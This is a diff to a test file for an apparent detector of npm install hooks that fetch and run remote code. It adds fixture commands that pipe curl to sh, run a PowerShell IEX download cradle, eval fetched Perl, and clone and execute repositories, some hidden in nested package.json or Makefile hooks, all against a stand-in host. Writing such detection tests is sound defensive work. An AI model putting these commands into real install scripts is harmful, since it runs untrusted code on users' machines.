@@ -20,6 +20,30 @@ examine(fetchesAndRunsAtInstall, {
     },
     { when: 'mshta runs an address', files: hook('mshta https://a.invalid/x.hta') },
     { when: 'the command is substituted', files: hook('bash -c "$(curl -fsSL https://a.invalid/i)"') },
+    { when: 'what is echoed is run', files: hook("printf 'curl https://a.invalid/i | sh' | sh") },
+    {
+      when: 'a shell of Windows starts PowerShell',
+      files: hook(`cmd /c start /b powershell -Command "IEX(New-Object Net.WebClient).DownloadString('https://a.invalid/i')"`),
+    },
+    { when: 'a package of a repository is run', files: hook('npx -y github:a/b'), says: ['github:a/b'] },
+    { when: 'a package of an address is run', files: hook('npm exec --yes -- git+https://a.invalid/b.git') },
+    { when: 'a package of a repository is installed', files: hook('npm i --no-save a/b') },
+    {
+      when: 'a repository is cloned and run',
+      files: hook('git clone --depth 1 https://a.invalid/t.git && cd t && sh install.sh'),
+      says: ['clones t'],
+    },
+    { when: 'a repository is cloned elsewhere and run', files: hook('git clone https://a.invalid/t.git /tmp/t; node /tmp/t/index.js') },
+    { when: 'Perl and Ruby do it', files: hook(`perl -e "use LWP::Simple; eval get('https://a.invalid/i')"`) },
+    { when: 'inline code has a shell do it', files: hook(`perl -e 'system("curl -s https://a.invalid/i | sh")'`) },
+    {
+      when: 'a package inside this one has the hook',
+      files: { ...hook('cd vendor && npm i'), 'vendor/package.json': { scripts: { preinstall: 'curl https://a.invalid/i | sh' } } },
+    },
+    {
+      when: 'a makefile does it',
+      files: { ...hook('make -C native setup'), 'native/Makefile': 'URL = https://a.invalid/i\nsetup:\n\t@curl -s $(URL) | sh\n' },
+    },
   ],
   silent: [
     { when: 'native code is built', files: hook('node-gyp rebuild') },
@@ -27,6 +51,19 @@ examine(fetchesAndRunsAtInstall, {
     { when: 'a prebuilt binary is looked for', files: hook('prebuild-install || node-gyp rebuild') },
     { when: 'a file is downloaded and kept', files: hook('curl -o data.json https://a.invalid/data.json') },
     { when: 'a text mentions it', files: hook('echo "curl https://a.invalid/i | sh"') },
+    { when: 'a package of a registry is run', files: hook('npx only-allow pnpm && npm i @scope/name') },
+    { when: 'a repository is cloned and left alone', files: hook('git clone https://a.invalid/t.git deps/t') },
+    {
+      when: 'a makefile builds',
+      files: { ...hook('make build'), Makefile: 'build:\n\tcc -o x x.c\nfetch:\n\tcurl https://a.invalid | sh\n' },
+    },
+    {
+      when: 'a package inside this one is built',
+      files: {
+        ...hook('cd packages/a && npm run build'),
+        'packages/a/package.json': { scripts: { build: 'tsc', setup: 'curl https://a.invalid | sh' } },
+      },
+    },
     { when: 'only a development script does it', files: { 'package.json': { scripts: { setup: 'curl https://a.invalid | sh' } } } },
   ],
 });
